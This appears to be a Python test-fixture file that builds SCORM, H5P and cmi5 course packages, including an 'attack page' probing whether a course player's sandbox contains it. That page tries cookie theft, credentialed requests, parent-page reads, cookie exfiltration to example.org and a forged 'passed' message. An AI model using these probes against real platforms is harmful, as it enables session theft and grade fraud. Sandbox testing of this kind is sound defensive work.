"""Small packages of our own, to be played in tests; and one that tries everything a package must not be able to do.

folder = scorm_12(tmp_path / "package", page=GOOD_PAGE)
"""

import json
from collections.abc import Mapping
from pathlib import Path

MANIFEST_12 = """<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="M" version="1.0" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="O"><organization identifier="O"><title>{title}</title>{items}</organization></organizations>
  <resources>{resources}</resources>
</manifest>"""
MANIFEST_2004 = """<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="M" version="1.0" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3">
  <metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion></metadata>
  <organizations default="O"><organization identifier="O"><title>{title}</title>{items}</organization></organizations>
  <resources>{resources}</resources>
</manifest>"""
ITEM = '<item identifier="{id}" identifierref="R-{id}"{more}><title>{title}</title>{below}</item>'
RESOURCE = '<resource identifier="R-{id}" type="webcontent" adlcp:{scorm}="sco" href="{href}"><file href="{href}"/></resource>'
FIND_API = """
function api() { let w = window; for (let i = 0; i < 9 && w; i += 1) { if (w.API) return w.API; if (w === w.parent) break; w = w.parent; } }
"""
GOOD_PAGE = f"""<!doctype html><html lang="de"><meta charset="utf-8"><title>Teil</title><body>
<h1>Zwei Fragen</h1><p id="place"></p>
<button id="on">Weiter</button><button id="end">Fertig</button>
<script>{FIND_API}
  const lms = api();
  lms.LMSInitialize("");
  const place = document.getElementById("place");
  const show = () => (place.textContent = "Seite " + (lms.LMSGetValue("cmi.core.lesson_location") || "1"));
  document.getElementById("on").onclick = () => {{
    lms.LMSSetValue("cmi.core.lesson_location", String(1 + Number(lms.LMSGetValue("cmi.core.lesson_location") || "1")));
    lms.LMSSetValue("cmi.suspend_data", "Häkchen ✓ 😀");
    lms.LMSSetValue("cmi.core.exit", "suspend");
    lms.LMSCommit("");
    show();
  }};
  document.getElementById("end").onclick = () => {{
    lms.LMSSetValue("cmi.core.score.raw", "80");
    lms.LMSSetValue("cmi.core.lesson_status", "completed");
    lms.LMSSetValue("cmi.core.session_time", "00:05:00");
    lms.LMSFinish("");
    place.textContent = "Ende";
  }};
  show();
</script></body></html>"""
ATTACK_PAGE = """<!doctype html><html lang="de"><meta charset="utf-8"><title>Angriff</title><body>
<p id="done">…</p>
<script>
  const OURS = new URLSearchParams(location.search).get("ours") || document.referrer;
  const said = {};
  async function attempt(name, act) {
    try { said[name] = "did: " + String(await act()).slice(0, 200); } catch (error) { said[name] = "refused: " + error.name; }
  }
  (async () => {
    const ours = window.parent.document.documentElement.dataset.shownBy; // the player tells where it is shown
    await attempt("cookies", () => { document.cookie = "session=mine; path=/"; return document.cookie; });
    await attempt("page", () => window.top.document.body.innerHTML);
    await attempt("storage", () => window.top.localStorage.length);
    await attempt("api", async () => (await fetch(ours + "/meine-kurse", { credentials: "include" })).status);
    await attempt("here", async () => (await fetch("/meine-kurse", { credentials: "include" })).status);
    await attempt("elsewhere", async () => (await fetch("https://example.org/?" + document.cookie)).status);
    await attempt("picture", () => new Promise((yes, no) => {
      const one = new Image();
      one.onload = () => yes("loaded"); one.onerror = () => no(new TypeError("no")); one.src = ours + "/static/favicon.svg";
    }));
    await attempt("top", () => { window.top.location = "about:blank"; return "asked"; });
    await attempt("worker", () => navigator.serviceWorker.register("worker.js"));
    await attempt("frame", () => new Promise((yes, no) => {
      const one = document.createElement("iframe");
      one.src = ours + "/meine-kurse";
      one.onload = () => { try { yes(one.contentDocument.body.innerHTML); } catch (error) { no(error); } };
      document.body.append(one);
      setTimeout(() => no(new TypeError("silent")), 1500);
    }));
    await attempt("message", () => { window.top.postMessage({ type: "save", part: "a", data: { "cmi.core.lesson_status": "passed" } }, ours); return "sent"; });
    document.getElementById("done").textContent = JSON.stringify(said);
  })();
</script></body></html>"""


def scorm_12(folder: Path, pages: Mapping[str, str], *, title: str = "Probe", more: str = "") -> Path:
    """SCORM 1.2: one part for each page, in their order; `more` stands inside of every item."""
    return _scorm(folder, MANIFEST_12, "scormtype", pages, title, more)


def scorm_2004(folder: Path, pages: Mapping[str, str], *, title: str = "Probe", more: str = "") -> Path:
    """SCORM 2004, likewise."""
    return _scorm(folder, MANIFEST_2004, "scormType", pages, title, more)


def _scorm(folder: Path, manifest: str, scorm: str, pages: Mapping[str, str], title: str, below: str) -> Path:
    folder.mkdir(parents=True)
    items = "".join(
        ITEM.format(id=name, title=f"Teil {name.upper()}", more="", below=below) for name in pages
    )
    resources = "".join(RESOURCE.format(id=name, href=f"{name}.html", scorm=scorm) for name in pages)
    text = manifest.format(title=title, items=items, resources=resources)
    (folder / "imsmanifest.xml").write_text(text, encoding="utf-8")
    for name, page in pages.items():
        (folder / f"{name}.html").write_text(page, encoding="utf-8")
    return folder


def h5p(folder: Path, *, libraries: bool = True) -> Path:
    """An H5P exercise whose one library does nothing."""
    (folder / "content").mkdir(parents=True)
    dependency = {"machineName": "H5P.Probe", "majorVersion": 1, "minorVersion": "2"}
    about = {"title": "Übung", "mainLibrary": "H5P.Probe", "preloadedDependencies": [dependency]}
    (folder / "h5p.json").write_text(json.dumps(about), encoding="utf-8")
    (folder / "content" / "content.json").write_text("{}", encoding="utf-8")
    if libraries:
        (folder / "H5P.Probe-1.2").mkdir()
        (folder / "H5P.Probe-1.2" / "library.json").write_text("{}", encoding="utf-8")
    return folder


STRUCTURE = """<?xml version="1.0" encoding="UTF-8"?>
<courseStructure xmlns="https://w3id.org/xapi/profiles/cmi5/v1/CourseStructure.xsd">
  <course id="https://publisher.example/course"><title><langstring lang="de">{title}</langstring></title>
    <description><langstring lang="de">Kurs</langstring></description></course>{units}
</courseStructure>"""
UNIT = """<au id="https://publisher.example/{name}" moveOn="{move_on}"{more}><title><langstring lang="de">Teil {upper}</langstring></title>
  <description><langstring lang="de">Teil</langstring></description><url>{name}.html?lang=de</url><launchParameters>{{"a": 1}}</launchParameters></au>"""
UNIT_PAGE = """<!doctype html><html lang="de"><meta charset="utf-8"><title>Teil</title><body>
<h1>Drei Fragen</h1><p id="place">…</p><button id="fail">Falsch</button><button id="end">Fertig</button>
<script src="Cmi5.umd.js"></script>
<script>
  const place = document.getElementById("place");
  const show = (words) => (place.textContent = words);
  const unit = new Cmi5();
  const about = () => ({ agent: unit.launchParameters.actor, activityId: unit.launchParameters.activityId,
    registration: unit.launchParameters.registration, stateId: "stand" });
  const trouble = (error) => show("Fehler " + (error.response ? error.response.status + JSON.stringify(error.response.data) : error));
  (async () => {
    await unit.initialize();
    let before = null;
    try { before = (await unit.xapi.getState(about())).data; } catch (error) { if (error.response.status !== 404) throw error; }
    show(unit.launchData.launchMode + ", " + unit.getLearnerPreferences().languagePreference + ", Seite " + (before ? before.page : 1));
  })().catch(trouble);
  document.getElementById("fail").onclick = async () => {
    try {
      await unit.xapi.setState({ ...about(), state: { page: 2 } });
      await unit.interactionTrueFalse("t", "q", false, true);
      await unit.fail({ scaled: 0.4 });
      await unit.terminate();
      show("nicht bestanden");
    } catch (error) { trouble(error); }
  };
  document.getElementById("end").onclick = async () => {
    try {
      await unit.pass({ scaled: 0.9 });
      await unit.complete();
      await unit.terminate();
      show("Ende");
    } catch (error) { trouble(error); }
  };
</script></body></html>"""


def cmi5(
    folder: Path, units: Mapping[str, str], *, title: str = "Probe", more: str = ' masteryScore="0.8"'
) -> Path:
    """One unit for each name, with its moveOn; the page of each speaks through a library of others, which is not in here."""
    folder.mkdir(parents=True)
    listed = "".join(
        UNIT.format(name=name, upper=name.upper(), move_on=move_on, more=more)
        for name, move_on in units.items()
    )
    (folder / "cmi5.xml").write_text(STRUCTURE.format(title=title, units=listed), encoding="utf-8")
    for name in units:
        (folder / f"{name}.html").write_text(UNIT_PAGE, encoding="utf-8")
    return folder
